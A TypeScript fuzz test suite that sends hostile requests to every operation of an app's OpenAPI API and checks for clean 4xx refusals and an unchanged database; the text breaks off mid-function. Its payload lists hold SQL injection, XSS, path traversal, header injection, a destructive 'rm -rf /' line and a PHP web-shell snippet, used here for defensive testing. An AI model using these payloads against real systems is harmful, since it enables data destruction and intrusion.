/**
 * Hostile input, driven by the OpenAPI document the app serves.
 *
 * For every operation of the document, fast-check sends garbage path parameters, query strings,
 * headers and bodies (random JSON, schema-valid bodies with one field broken, raw bytes that are
 * not JSON, wrong content types), signed in as an administrator (session and API key) and as a
 * grid worker, and without valid credentials. The suite proves that:
 *  - no answer is a 5xx, and every 4xx carries the error shape `{ error: { code, message } }`;
 *  - a request that breaks the documented contract is refused with a 4xx and writes nothing:
 *    a fingerprint of every table of the database is the same before and after;
 *  - without valid credentials every protected operation answers 401;
 *  - reads write nothing, whatever their input.
 * Then specific attacks: oversized and deeply nested bodies, invalid UTF-8, malformed URLs, SQL
 * and HTML in text fields (stored inert), path traversal in a file name, scripts dressed as photos.
 *
 * The runs are seeded: HOSTILE_INPUT_SEED picks another seed, HOSTILE_INPUT_RUNS multiplies the
 * number of runs. A failure prints the seed and the smallest counterexample found.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import zlib from "node:zlib";
import { Ajv, type ValidateFunction } from "ajv";
import addFormatsImport from "ajv-formats";
import fc from "fast-check";
import type { InjectOptions, LightMyRequestResponse } from "fastify";
import { Kysely, PostgresDialect, sql } from "kysely";
import pg from "pg";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../src/app.ts";
import { createContext } from "../src/create-context.ts";
import { loadConfig } from "../src/config.ts";
import type { DB } from "../src/db/schema.ts";
import { GRID_IMPORT_MAX_BYTES } from "../src/modules/grids/grids.routes.ts";
import { followRegion } from "../src/modules/notifications/notification-follower.ts";
import { createTestApp, type TestApp } from "./test-app.ts";

const SEED = Number(process.env.HOSTILE_INPUT_SEED ?? 20261122);
const RUNS = Number(process.env.HOSTILE_INPUT_RUNS ?? 1);
/** Runs per operation: contract-breaking requests signed in, requests without credentials, reads with any input. */
const RUNS_SIGNED_IN = Math.ceil(40 * RUNS);
const RUNS_ANONYMOUS = Math.ceil(15 * RUNS);
const RUNS_READS = Math.ceil(20 * RUNS);

/**
 * Operations open without a session; every other operation must answer 401 to a stranger. Named
 * here as well as in the document (`security` with an empty alternative), which must agree.
 */
const PUBLIC_OPERATIONS = new Set(["health", "ready", "login", "locateGrid", "createCase", "previewCase", "uploadPhoto", "trackCase", "evaluateCase", "getPublicPhoto", "listCategories", "getPublicMap", "openScreenSession"]);
/** Refusals of the router, before any route (and so before authentication) runs. */
const ROUTER_REFUSALS = new Set(["invalid_url", "url_too_long", "invalid_query", "route_not_found"]);
const SNAKE_CASE = /^[a-z][a-z0-9]*(_[a-z0-9]+)*$/;
const GRID_WORKER = "gw-530103001001-1";

// ---------------------------------------------------------------------------------------------
// The OpenAPI document, reduced to what a request is made of.

type JsonSchema = {
  type?: string;
  enum?: unknown[];
  anyOf?: JsonSchema[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean;
  minProperties?: number;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  uniqueItems?: boolean;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  default?: unknown;
};
type Parameter = { name: string; in: "path" | "query" | "header"; required?: boolean; schema: JsonSchema };
type Operation = { id: string; method: string; path: string; parameters: Parameter[]; body?: JsonSchema; isPublic: boolean; documentedPublic: boolean };
type OpenApiDocument = {
  paths: Record<
    string,
    Record<string, { operationId: string; parameters?: Parameter[]; requestBody?: { content: Record<string, { schema: JsonSchema }> }; security?: object[] }>
  >;
};

function operationsOf(document: OpenApiDocument): Operation[] {
  return Object.entries(document.paths).flatMap(([route, methods]) =>
    Object.entries(methods).map(([method, operation]) => ({
      id: operation.operationId,
      method: method.toUpperCase(),
      path: route,
      parameters: operation.parameters ?? [],
      body: operation.requestBody?.content["application/json"]?.schema,
      isPublic: PUBLIC_OPERATIONS.has(operation.operationId),
      documentedPublic: (operation.security ?? []).some((alternative) => Object.keys(alternative).length === 0),
    })),
  );
}

const parametersIn = (operation: Operation, where: Parameter["in"]) => operation.parameters.filter((p) => p.in === where);
const hasIfMatch = (operation: Operation) => parametersIn(operation, "header").some((p) => p.name === "if-match");
/** The ETags of this API are versions in quotes: "3". */
const isStrongEtag = (value: string | undefined) => value !== undefined && /^"[0-9]+"$/.test(value);
const isRead = (operation: Operation) => operation.method === "GET";

/** The document exactly as the app serves it at /api/v1/openapi.json; it needs the routes, not a database. */
async function servedDocument(): Promise<OpenApiDocument> {
  const db = new Kysely<DB>({ dialect: new PostgresDialect({ pool: new pg.Pool() }) }); // never connects
  const app = await buildApp(createContext(db, loadConfig({})));
  await app.ready();
  const document = app.swagger() as unknown as OpenApiDocument;
  await app.close();
  return document;
}

// Read when the tests are collected, so that each operation is a test of its own.
const OPERATIONS = operationsOf(await servedDocument());

// ---------------------------------------------------------------------------------------------
// The contract as the documented schemas state it: what the server must refuse.

// ajv-formats ships CommonJS; under NodeNext its default export is the module namespace.
const addFormats = addFormatsImport as unknown as (ajv: Ajv) => Ajv;
// Bodies are checked as sent; query strings, path parameters and headers are text, coerced like the server does.
const bodyAjv = addFormats(new Ajv({ strict: false, useDefaults: true, coerceTypes: false }));
const textAjv = addFormats(new Ajv({ strict: false, useDefaults: true, coerceTypes: "array" }));
const compiled = new Map<string, ValidateFunction>();

function accepts(ajv: Ajv, schema: JsonSchema, value: unknown): boolean {
  const key = `${ajv === bodyAjv ? "body" : "text"}:${JSON.stringify(schema)}`;
  let validate = compiled.get(key);
  if (!validate) {
    // Wrapped in an object so that coercion can replace the value, as it does inside the query object.
    validate = ajv.compile({ type: "object", properties: { value: schema }, required: ["value"] });
    compiled.set(key, validate);
  }
  return validate({ value: structuredClone(value) }) && !hasUnstorableText(value);
}

/** A NUL character or a lone surrogate (a surrogate pair is one code point under the u flag) in a string or key. */
const isUnstorable = (text: string) => text.includes("\u0000") || /\p{Cs}/u.test(text);

function hasUnstorableText(value: unknown): boolean {
  if (typeof value === "string") return isUnstorable(value);
  if (typeof value !== "object" || value === null) return false;
  return Object.entries(value).some(([key, item]) => isUnstorable(key) || hasUnstorableText(item));
}

const JSON_CONTENT_TYPES = new Set(["application/json", "application/json; charset=utf-8"]);
/** Content types the server has a parser for; anything else with a body is a 415. */
const PARSED_CONTENT_TYPES = /^(application\/json|image\/(jpeg|png|webp))(;|$)/;

type Body = { kind: "json"; value: unknown } | { kind: "raw"; bytes: Buffer; contentType?: string };
/** One request, in parts: query pairs keep their order and repeats, as a query string does. */
type HostileRequest = { path: Record<string, string>; query: [string, string][]; headers: Record<string, string>; body?: Body; breach?: string };

const strictUtf8 = new TextDecoder("utf-8", { fatal: true });

function parsedJson(bytes: Buffer): { value: unknown } | undefined {
  try {
    return { value: JSON.parse(strictUtf8.decode(bytes)) };
  } catch {
    return undefined;
  }
}

function looksLikeImage(bytes: Buffer): boolean {
  return [IMAGE_SIGNATURES.jpeg, IMAGE_SIGNATURES.png].some((signature) => bytes.subarray(0, signature.length).equals(signature)) || bytes.subarray(8, 12).toString("latin1") === "WEBP";
}

/**
 * Why the documented contract refuses this request, or undefined when it might be accepted. Only
 * what the document states counts, plus rules that JSON Schema cannot express: no text holds a
 * NUL character (PostgreSQL cannot store one) or a lone surrogate (UTF-8 cannot encode one), and an
 * upload must be an image.
 */
function contractBreach(operation: Operation, request: HostileRequest): string | undefined {
  for (const parameter of parametersIn(operation, "path")) {
    if (!accepts(textAjv, parameter.schema, request.path[parameter.name])) return `path parameter ${parameter.name}`;
  }
  for (const parameter of parametersIn(operation, "query")) {
    const values = request.query.filter(([key]) => key === parameter.name).map(([, value]) => value);
    if (values.length === 0) {
      if (parameter.required && parameter.schema.default === undefined) return `missing query parameter ${parameter.name}`;
    } else if (!accepts(textAjv, parameter.schema, values.length === 1 ? values[0] : values)) return `query parameter ${parameter.name}`;
  }
  for (const parameter of parametersIn(operation, "header")) {
    const value = request.headers[parameter.name];
    if (value !== undefined && !accepts(textAjv, parameter.schema, value)) return `header ${parameter.name}`;
  }
  // "If-Match with its ETag" (412, 428): without one, or with one that names no version, nothing changes.
  if (hasIfMatch(operation) && !isStrongEtag(request.headers["if-match"])) return "If-Match that names no version";
  if (isRead(operation)) return undefined;
  const body = request.body;
  if (operation.id === "uploadPhoto" && (!body || body.kind === "json" || !looksLikeImage(body.bytes))) return "not an image";
  if (!body) return operation.body ? "no body" : undefined;
  if (body.kind === "raw") {
    const contentType = body.contentType?.toLowerCase();
    if (body.bytes.length > 0 && (!contentType || !PARSED_CONTENT_TYPES.test(contentType))) return "unsupported content type";
    if (contentType && JSON_CONTENT_TYPES.has(contentType)) {
      const parsed = parsedJson(body.bytes);
      if (!parsed) return "malformed JSON";
      return operation.body && !accepts(bodyAjv, operation.body, parsed.value) ? "body against its schema" : undefined;
    }
    return operation.body ? "a body that is not JSON" : undefined;
  }
  return operation.body && !accepts(bodyAjv, operation.body, body.value) ? "body against its schema" : undefined;
}

// ---------------------------------------------------------------------------------------------
// Generators: valid-looking values from the schemas, garbage, and one-field breakages.

const HOSTILE_TEXT = [
  "' or 1=1--",
  "'; drop table cases; --",
  '" or ""="',
  "1; select pg_sleep(10)",
  "admin'--",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "{{7*7}}",
  "${7*7}",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "..%2f..%2f",
  "%00",
  "\u0000",
  "a\u0000b",
  "%ZZ",
  "%",
  "\uFEFF",
  "\u202Egnp.exe",
  "\uD800",
  "𠜎𠜱𠝹",
  "😀",
  "\r\nSet-Cookie: x=1",
  " ",
  "",
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "-1",
  "0",
  "1e309",
  "99999999999999999999999999",
  "0x1F",
  "true",
  "[]",
  "{}",
  "__proto__",
  "constructor",
  "530103001001001' or '1'='1",
  "00000000-0000-0000-0000-00000000000g",
  "长".repeat(3000),
  "a".repeat(5000),
];

const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 30 }) },
  { weight: 1, arbitrary: fc.stringMatching(/^[0-9a-fA-F-]{30,40}$/) },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.bigInt()).map(String) },
);

/** What HTTP can carry in a header value: printable ASCII. */
const headerText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('W/"1"', '"1"', "*", '"-1"', '"99999999999999999999"', "\" or 1=1--", "<script>", "../../etc/passwd", ""),
  fc.stringMatching(/^[\x20-\x7e]{0,60}$/),
);

function stringOf(schema: JsonSchema): fc.Arbitrary<string> {
  if (schema.format === "uuid") return fc.uuid();
  if (schema.format === "date") {
    return fc.date({ min: new Date("2000-01-01"), max: new Date("2099-12-31"), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
  }
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern));
  const minLength = schema.minLength ?? 0;
  return fc.string({ unit: "grapheme-ascii", minLength, maxLength: Math.min(schema.maxLength ?? 40, minLength + 40) });
}

/** Values the schema accepts (mostly: combined constraints are not all honoured, which only adds breakage). */
function valueOf(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(valueOf));
  switch (schema.type) {
    case "string":
      return stringOf(schema);
    case "integer":
      return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 });
    case "number":
      return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true, noDefaultInfinity: true });
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array": {
      const item = valueOf(schema.items ?? {});
      const minLength = schema.minItems ?? 0;
      const constraints = { minLength, maxLength: Math.min(schema.maxItems ?? minLength + 3, minLength + 3) };
      return schema.uniqueItems ? fc.uniqueArray(item, { ...constraints, selector: (v) => JSON.stringify(v) }) : fc.array(item, constraints);
    }
    case "object": {
      const model = Object.fromEntries(Object.entries(schema.properties ?? {}).map(([key, property]) => [key, valueOf(property)]));
      return fc.record(model, { requiredKeys: schema.required ?? [] });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Text for a query or path value: booleans and numbers as they would be written in a URL. */
const textOf = (schema: JsonSchema) => valueOf(schema).map((value) => (typeof value === "string" ? value : JSON.stringify(value)));

/**
 * Whether a value can stand in a path segment. An empty segment names another route, and "." or
 * ".." (even as %2E) are dot segments that the URL parser resolves away before any route is found.
 */
const fitsInPathSegment = (value: string) => value !== "" && value !== "." && value !== "..";

type Site = { path: (string | number)[]; schema: JsonSchema };

/** The places in a valid value where one field can be broken: the value itself, each property, each item. */
function sitesOf(value: unknown, schema: JsonSchema, at: (string | number)[] = []): Site[] {
  const sites: Site[] = [{ path: at, schema }];
  if (isObject(value) && schema.properties) {
    for (const [key, property] of Object.entries(schema.properties)) {
      if (key in value) sites.push(...sitesOf(value[key], property, [...at, key]));
    }
  }
  if (Array.isArray(value) && schema.items) value.forEach((item, i) => sites.push(...sitesOf(item, schema.items ?? {}, [...at, i])));
  return sites;
}

const isObject = (value: unknown): value is Record<string, unknown> => typeof value === "object" && value !== null && !Array.isArray(value);

/** Replacements for a value that its schema refuses: a wrong type, a value out of range, an extra or a missing property. */
function breakingValuesFor(schema: JsonSchema, current: unknown): unknown[] {
  const candidates: unknown[] = [42, -1, 1.5, "text", true, null, [], {}, 1e308, -1e308, "' or 1=1--", "<script>alert(1)</script>", "a\u0000b"];
  if (schema.maxLength !== undefined) candidates.push("'".repeat(schema.maxLength + 1), "长".repeat(schema.maxLength + 1));
  if (schema.minLength) candidates.push("", "x".repeat(schema.minLength - 1));
  if (schema.pattern || schema.format || schema.enum) candidates.push(...HOSTILE_TEXT.slice(0, 20), "2026-02-30", "2026-13-01");
  if (schema.minimum !== undefined) candidates.push(schema.minimum - 1, schema.minimum - 0.5);
  if (schema.maximum !== undefined) candidates.push(schema.maximum + 1, schema.maximum + 0.001);
  if (schema.type === "integer") candidates.push(0.5, 2 ** 63);
  if (Array.isArray(current)) {
    if (schema.maxItems !== undefined) candidates.push(Array.from({ length: schema.maxItems + 1 }, (_, i) => current[i % Math.max(current.length, 1)] ?? i));
    if (schema.minItems) candidates.push([]);
    if (schema.uniqueItems && current.length > 0) candidates.push([current[0], current[0]]);
    candidates.push([...current, { nested: "<script>" }]);
  }
  if (isObject(current)) {
    if (schema.additionalProperties === false) {
      candidates.push({ ...current, isAdmin: true }, { ...current, roles: ["admin"] }, { ...current, constructor: { prototype: { isAdmin: true } } });
    }
    for (const key of schema.required ?? []) {
      const { [key]: _removed, ...rest } = current;
      candidates.push(rest);
    }
  }
  return candidates.filter((candidate) => !accepts(bodyAjv, schema, candidate));
}

function replacedAt(value: unknown, at: (string | number)[], replacement: unknown): unknown {
  if (at.length === 0) return replacement;
  const copy = structuredClone(value) as Record<string | number, unknown>;
  let parent = copy;
  for (const key of at.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  parent[at[at.length - 1]] = replacement;
  return copy;
}

/** A body valid under the schema, with exactly one field broken. */
function bodyWithOneFieldBroken(schema: JsonSchema): fc.Arbitrary<unknown> {
  return fc.tuple(valueOf(schema), fc.nat(), fc.nat()).map(([valid, siteIndex, candidateIndex]) => {
    const sites = sitesOf(valid, schema);
    const site = sites[siteIndex % sites.length];
    const current = site.path.reduce<unknown>((node, key) => (node as Record<string | number, unknown>)[key], valid);
    const candidates = breakingValuesFor(site.schema, current);
    return candidates.length === 0 ? valid : replacedAt(valid, site.path, candidates[candidateIndex % candidates.length]);
  });
}

const MALFORMED_JSON = ['{"a":', '{"a":1}}', "{'a':1}", "[1,]", "NaN", "{a:1}", '{"a":1,}', "\u0000", '"unterminated', "01", "+1", "{\"a\":\"\\x41\"}", "<xml/>"];

/** Bytes that are not a JSON document: random bytes, near misses, invalid UTF-8 inside a string. */
const notJsonBytes: fc.Arbitrary<Buffer> = fc
  .oneof(
    fc.uint8Array({ minLength: 1, maxLength: 80 }).map((bytes) => Buffer.from(bytes)),
    fc.constantFrom(...MALFORMED_JSON).map((text) => Buffer.from(text)),
    fc.constantFrom([0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xe4, 0xb8]).map((bad) => Buffer.concat([Buffer.from('{"description":"'), Buffer.from(bad), Buffer.from('"}')])),
  )
  .filter((bytes) => parsedJson(bytes) === undefined);

const UNSUPPORTED_CONTENT_TYPES = [
  "application/xml",
  "text/html",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----x",
  "application/octet-stream",
  "application/javascript",
  "application/json-patch+json",
  "image/svg+xml",
  "garbage",
  ";;;=",
];

const IMAGE_SIGNATURES = {
  png: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  jpeg: Buffer.from([0xff, 0xd8, 0xff]),
};

/**
 * Text that the schema of a path, query or header value refuses: the schema's own near misses
 * half of the time, otherwise `source` values that happen to be refused. Undefined when nothing
 * `allowed` can break the schema.
 */
function textRefusedBy(schema: JsonSchema, source: fc.Arbitrary<string>, allowed: (value: string) => boolean = () => true): fc.Arbitrary<string> | undefined {
  const refused = (value: string) => allowed(value) && !accepts(textAjv, schema, value);
  const nearMisses = breakingValuesFor(schema, "x")
    .map((value) => (typeof value === "string" ? value : JSON.stringify(value)))
    .filter(refused);
  if (nearMisses.length === 0) return undefined;
  return fc.oneof(fc.constantFrom(...nearMisses), source.filter(refused));
}

/** A breakage that the contract refuses, applied last so that nothing undoes it. */
type Breakage = { label: string; apply(request: HostileRequest): HostileRequest };

function breakagesFor(operation: Operation): fc.Arbitrary<Breakage>[] {
  const breakages: fc.Arbitrary<Breakage>[] = [];
  for (const parameter of parametersIn(operation, "path")) {
    const garbage = textRefusedBy(parameter.schema, hostileText)?.filter(fitsInPathSegment);
    if (!garbage) continue;
    breakages.push(garbage.map((value) => ({ label: `path ${parameter.name}`, apply: (r) => ({ ...r, path: { ...r.path, [parameter.name]: value } }) })));
  }
  for (const parameter of parametersIn(operation, "query")) {
    const single = textRefusedBy(parameter.schema, hostileText)?.map((value) => [value]);
    if (!single) continue;
    const repeated = fc.array(hostileText, { minLength: 2, maxLength: 3 }).filter((values) => !accepts(textAjv, parameter.schema, values));
    breakages.push(
      fc.oneof(single, repeated).map((values) => ({
        label: `query ${parameter.name}`,
        apply: (r) => ({ ...r, query: [...r.query.filter(([key]) => key !== parameter.name), ...values.map((v): [string, string] => [parameter.name, v])] }),
      })),
    );
    if (parameter.required && parameter.schema.default === undefined) {
      breakages.push(fc.constant({ label: `no query ${parameter.name}`, apply: (r) => ({ ...r, query: r.query.filter(([key]) => key !== parameter.name) }) }));
    }
  }
  for (const parameter of parametersIn(operation, "header")) {
    // A header schema that takes any string (If-Match) cannot be broken by a value HTTP can carry.
    const garbage = textRefusedBy(parameter.schema, headerText, (value) => /^[\x20-\x7e]*$/.test(value));
    if (!garbage) continue;
    breakages.push(garbage.map((value) => ({ label: `header ${parameter.name}`, apply: (r) => ({ ...r, headers: { ...r.headers, [parameter.name]: value } }) })));
  }
  if (hasIfMatch(operation)) {
    const notAnEtag = fc.option(headerText.filter((value) => !isStrongEtag(value)), { nil: undefined });
    breakages.push(
      notAnEtag.map((value) => ({
        label: "If-Match",
        apply: (r) => {
          const { "if-match": _dropped, ...headers } = r.headers;
          return { ...r, headers: value === undefined ? headers : { ...headers, "if-match": value } };
        },
      })),
    );
  }
  if (isRead(operation)) return breakages;
  const body = (label: string, make: (r: HostileRequest) => Body | undefined): Breakage => ({ label, apply: (r) => ({ ...r, body: make(r) }) });
  if (operation.body) {
    const schema = operation.body;
    const notMatching = fc.jsonValue({ maxDepth: 4 }).filter((value) => !accepts(bodyAjv, schema, value));
    breakages.push(notMatching.map((value) => body("random JSON", () => ({ kind: "json", value }))));
    breakages.push(bodyWithOneFieldBroken(schema).map((value) => body("one field broken", () => ({ kind: "json", value }))));
    breakages.push(fc.constant(body("no body", () => undefined)));
    breakages.push(
      fc.constantFrom("text/plain", "image/png").map((contentType) =>
        body(`JSON sent as ${contentType}`, (r) => ({ kind: "raw", contentType, bytes: Buffer.from(JSON.stringify(r.body?.kind === "json" ? r.body.value : {})) })),
      ),
    );
  }
  breakages.push(
    fc.tuple(notJsonBytes, fc.constantFrom(...JSON_CONTENT_TYPES)).map(([bytes, contentType]) => body("not JSON", () => ({ kind: "raw", bytes, contentType }))),
  );
  breakages.push(
    fc
      .tuple(fc.uint8Array({ minLength: 1, maxLength: 64 }), fc.constantFrom(...UNSUPPORTED_CONTENT_TYPES, undefined))
      .map(([bytes, contentType]) => body(`content type ${contentType}`, () => ({ kind: "raw", bytes: Buffer.from(bytes), contentType }))),
  );
  if (operation.id === "uploadPhoto") {
    const script = fc.constantFrom("<script>alert(1)</script>", "#!/bin/sh\nrm -rf /\n", "<?php system($_GET['c']); ?>", "GIF89a<script>", "<svg onload=alert(1)>");
    breakages.push(
      fc
        .tuple(fc.oneof(script.map((text) => Buffer.from(text)), fc.uint8Array({ minLength: 1, maxLength: 64 }).map((b) => Buffer.from(b))), fc.constantFrom("image/png", "image/jpeg", "image/webp"))
        .filter(([bytes]) => !looksLikeImage(bytes))
        .map(([bytes, contentType]) => body("not an image", () => ({ kind: "raw", bytes, contentType }))),
    );
  }
  return breakages;
}

/** Random additions that do not repair a breakage: unknown query keys, garbage preconditions and keys, odd headers. */
function noise(): fc.Arbitrary<Pick<HostileRequest, "query" | "headers">> {
  const key = fc.oneof(fc.constantFrom("__proto__", "constructor", "limit[]", "a[b]", "", "q", "cursor", "%00", "..", "<script>"), fc.string({ maxLength: 8 }));
  const value = fc.oneof(hostileText, fc.constantFrom("1e400", "-0", "Infinity", "9".repeat(30)));
  return fc.record({
    query: fc.oneof(fc.constant<[string, string][]>([]), fc.array(fc.tuple(key, value), { minLength: 1, maxLength: 4 })),
    headers: fc.record(
      {
        "if-match": headerText,
        "idempotency-key": headerText,
        accept: fc.constantFrom("*/*", "text/html", "application/xml", "garbage;;;"),
        "accept-encoding": fc.constantFrom("gzip", "br", "deflate", "identity;q=0", "*;q=0", "gzip;q=abc", "garbage"),
        "x-forwarded-for": headerText,
      },
      { requiredKeys: [] },
    ),
  });
}

type Fixtures = Record<"caseId" | "caseNumber" | "trackingToken" | "attachmentId" | "userId" | "apiKeyId" | "division" | "grid" | "category", string>;

/** A real value for a path parameter, chosen by the collection it names (`/cases/{id}` is a case id). */
function realPathValue(operation: Operation, parameter: string, fixtures: Fixtures): string | undefined {
  const byName: Record<string, string> = { categoryCode: fixtures.category, divisionCode: fixtures.division, attachmentId: fixtures.attachmentId };
  if (byName[parameter]) return byName[parameter];
  const segments = operation.path.split("/");
  const collection = segments[segments.indexOf(`{${parameter}}`) - 1];
  const byCollection: Record<string, string> = {
    "api-keys": fixtures.apiKeyId,
    divisions: fixtures.division,
    grids: fixtures.grid,
    users: fixtures.userId,
    cases: operation.path.startsWith("/api/v1/public/") ? fixtures.caseNumber : fixtures.caseId,
    attachments: fixtures.attachmentId,
    categories: fixtures.category,
  };
  return byCollection[collection];
}

/** Real path values where there are some, otherwise well-formed ones from the schema (always the same). */
function pathValuesOf(operation: Operation, fixtures: Fixtures): Record<string, string> {
  return Object.fromEntries(
    parametersIn(operation, "path").map((p) => [
      p.name,
      realPathValue(operation, p.name, fixtures) ?? fc.sample(textOf(p.schema).filter(fitsInPathSegment), { numRuns: 1, seed: SEED })[0],
    ]),
  );
}

/** A request that looks right: real or well-formed path values, the required query, a valid body. */
function plausibleRequest(operation: Operation, fixtures: Fixtures): fc.Arbitrary<HostileRequest> {
  const path = Object.fromEntries(
    parametersIn(operation, "path").map((p) => {
      const real = realPathValue(operation, p.name, fixtures);
      const wellFormed = textOf(p.schema).filter(fitsInPathSegment);
      return [p.name, real ? fc.oneof({ weight: 3, arbitrary: fc.constant(real) }, { weight: 1, arbitrary: wellFormed }) : wellFormed];
    }),
  );
  const query = parametersIn(operation, "query").map((p) => {
    const value = p.name === "token" ? fc.oneof({ weight: 3, arbitrary: fc.constant(fixtures.trackingToken) }, { weight: 1, arbitrary: textOf(p.schema) }) : textOf(p.schema);
    const pair = value.map((v): [string, string][] => [[p.name, v]]);
    return p.required && p.schema.default === undefined ? pair : fc.oneof(fc.constant([]), pair);
  });
  return fc.record({
    path: fc.record(path),
    query: fc.tuple(...query).map((pairs) => pairs.flat()),
    headers: hasIfMatch(operation) ? fc.record({ "if-match": fc.constant('"1"') }, { requiredKeys: [] }) : fc.constant({}),
    body: operation.body ? valueOf(operation.body).map((value): Body | undefined => ({ kind: "json", value })) : fc.constant(undefined),
  });
}

/** A request that breaks the contract of the operation, and the reason it must be refused. */
function contractBreakingRequest(operation: Operation, fixtures: Fixtures): fc.Arbitrary<HostileRequest> | undefined {
  const breakages = breakagesFor(operation);
  if (breakages.length === 0) return undefined;
  return fc
    .tuple(plausibleRequest(operation, fixtures), noise(), fc.oneof(...breakages))
    .map(([request, extra, breakage]) => {
      const broken = breakage.apply({ ...request, query: [...request.query, ...extra.query], headers: { ...extra.headers, ...request.headers } });
      return { ...broken, breach: contractBreach(operation, broken) };
    })
    .filter((request) => request.breach !== undefined);
}

/** Any request, in equal shares: plausible, plausible with noise, and with a breakage on top. */
function anyRequest(operation: Operation, fixtures: Fixtures): fc.Arbitrary<HostileRequest> {
  const breakages = breakagesFor(operation);
  const noisy = fc
    .tuple(plausibleRequest(operation, fixtures), noise())
    .map(([request, extra]) => ({ ...request, query: [...request.query, ...extra.query], headers: { ...extra.headers, ...request.headers } }));
  const broken = breakages.length ? [fc.tuple(noisy, fc.oneof(...breakages)).map(([request, breakage]) => breakage.apply(request))] : [];
  return fc.oneof(plausibleRequest(operation, fixtures), noisy, ...broken);
}

// ---------------------------------------------------------------------------------------------
// Sending, and what every answer must look like.

type Caller = { name: string; headers: Record<string, string> };

/**
 * A path value percent-encoded byte by byte, dots too, so that it cannot climb out of its segment;
 * a lone surrogate goes out as U+FFFD, as from any HTTP client.
 */
const encodePathValue = (value: string) =>
  [...Buffer.from(value, "utf8")].map((byte) => (/[A-Za-z0-9_~-]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).padStart(2, "0").toUpperCase()}`)).join("");

function injectOptions(operation: Operation, request: HostileRequest, caller: Caller): InjectOptions {
  const url = operation.path.replace(/\{(\w+)\}/g, (_, name: string) => encodePathValue(request.path[name] ?? ""));
  const query = new URLSearchParams(request.query).toString();
  const headers: Record<string, string> = { ...request.headers, ...caller.headers };
  let payload: string | Buffer | undefined;
  if (request.body?.kind === "json") {
    headers["content-type"] = "application/json";
    payload = JSON.stringify(request.body.value);
  } else if (request.body?.kind === "raw") {
    if (request.body.contentType !== undefined) headers["content-type"] = request.body.contentType;
    payload = request.body.bytes;
  }
  return { method: operation.method as InjectOptions["method"], url: query ? `${url}?${query}` : url, headers, payload };
}

function describeExchange(caller: Caller, options: InjectOptions, response: LightMyRequestResponse, breach?: string): string {
  const sent = options.payload;
  const text = typeof sent === "string" ? sent : Buffer.isBuffer(sent) ? sent.toString("utf8") : JSON.stringify(sent);
  const payload = sent === undefined ? "" : ` body ${text.slice(0, 200)}`;
  const headers = JSON.stringify({ ...(options.headers as Record<string, string>), cookie: undefined, authorization: undefined });
  return `${caller.name}: ${options.method} ${String(options.url).slice(0, 300)} ${headers}${payload}${breach ? ` (breaks: ${breach})` : ""} → ${response.statusCode} ${response.body.slice(0, 300)}`;
}

function expectErrorShape(response: LightMyRequestResponse, label: string): void {
  expect(response.headers["content-type"], label).toMatch(/^application\/json/);
  const body = JSON.parse(response.body);
  expect(body, label).toEqual({ error: expect.objectContaining({ code: expect.stringMatching(SNAKE_CASE), message: expect.any(String) }) });
  expect(Object.keys(body.error).filter((key) => !["code", "message", "details"].includes(key)), label).toEqual([]);
}

/** The error code of an answer, if it is one in the error shape. */
function errorCodeOf(response: LightMyRequestResponse): string | undefined {
  try {
    return response.json().error?.code;
  } catch {
    return undefined;
  }
}

function expectNoServerError(response: LightMyRequestResponse, label: string): void {
  expect(response.statusCode, label).toBeLessThan(500);
  if (response.statusCode >= 400) expectErrorShape(response, label);
}

// ---------------------------------------------------------------------------------------------
// The database fingerprint: every table's row count and a hash of its rows.

/** The audit trail: an answered read may add to it (an export is audited), nothing else may. */
const isAuditTable = (table: string) => table.startsWith("audit_");
const withoutAuditTrail = (print: Record<string, string>) => Object.fromEntries(Object.entries(print).filter(([table]) => !isAuditTable(table)));
const rowCount = (print: Record<string, string>, table: string) => Number.parseInt(print[table] ?? "0", 10);

/** Columns that a request with valid credentials updates by design, refused or not: when a session or API key was last used. */
const TOUCHED_BY_AUTHENTICATION: Record<string, string[]> = { sessions: ["last_seen_at"], api_keys: ["last_used_at"] };
/** Tables that count requests, refused or not: the rate limits' counters. */
const REQUEST_COUNTERS = new Set(["rate_limits"]);

async function fingerprintQuery(db: Kysely<DB>): Promise<string> {
  const { rows } = await sql<{ table_name: string; column_name: string }>`
    select c.table_name, c.column_name
    from information_schema.columns c
    join information_schema.tables t on t.table_schema = c.table_schema and t.table_name = c.table_name
    where c.table_schema = 'public' and t.table_type = 'BASE TABLE'
    order by c.table_name, c.ordinal_position`.execute(db);
  const tables = new Map<string, string[]>();
  for (const { table_name, column_name } of rows) {
    if (REQUEST_COUNTERS.has(table_name)) continue;
    if (TOUCHED_BY_AUTHENTICATION[table_name]?.includes(column_name)) continue;
    tables.set(table_name, [...(tables.get(table_name) ?? []), `"${column_name}"`]);
  }
  return [...tables]
